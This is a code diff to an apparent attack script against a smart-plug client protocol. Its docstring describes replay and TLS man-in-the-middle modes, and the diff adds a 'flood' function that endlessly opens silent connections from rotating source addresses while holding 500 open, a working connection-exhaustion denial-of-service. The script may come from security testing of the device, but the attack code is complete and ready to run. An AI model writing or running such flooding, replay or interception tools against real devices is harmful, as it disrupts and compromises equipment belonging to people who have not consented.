@@ -3,8 +3,10 @@
 stranger_program.py hello ADDRESS PORT IDENTITY               Hello, Subscribe and a command, paired or not: all that is answered
 stranger_program.py replay ADDRESS PORT IDENTITY CODE         pairs, and says on another connection what it said on the first
 stranger_program.py middle PORT ADDRESS PLUG_PORT IDENTITY    ends TLS on both sides with its own key and passes everything on
+stranger_program.py flood ADDRESS PORT SOURCE...              connections that say nothing, from each source in turn, for ever
 """
 
+import itertools
 import json
 import os
 import pathlib
@@ -12,6 +14,7 @@ import socket
 import ssl
 import sys
 import threading
+import time
 
 from smartplug_client import pairing
 from smartplug_client.connection import Connection, Refused
@@ -86,4 +89,19 @@ def middle(port, address, plug_port, identity):
             threading.Thread(target=pass_on, args=ends, daemon=True).start()
 
 
-{"hello": hello, "replay": replay, "middle": middle}[sys.argv[1]](*sys.argv[2:])
+def flood(address, port, *sources):
+    held = []
+    for number, source in enumerate(itertools.cycle(sources)):
+        try:
+            held.append(socket.create_connection((address, int(port)), timeout=1, source_address=(source, 0)))
+        except OSError:
+            pass  # Nobody listens for a moment, or nobody takes it.
+        for stream in held[:-500]:
+            stream.close()
+        held = held[-500:]
+        if number % 100 == 99:
+            tell(connections=number + 1)
+        time.sleep(0.002)
+
+
+{"hello": hello, "replay": replay, "middle": middle, "flood": flood}[sys.argv[1]](*sys.argv[2:])
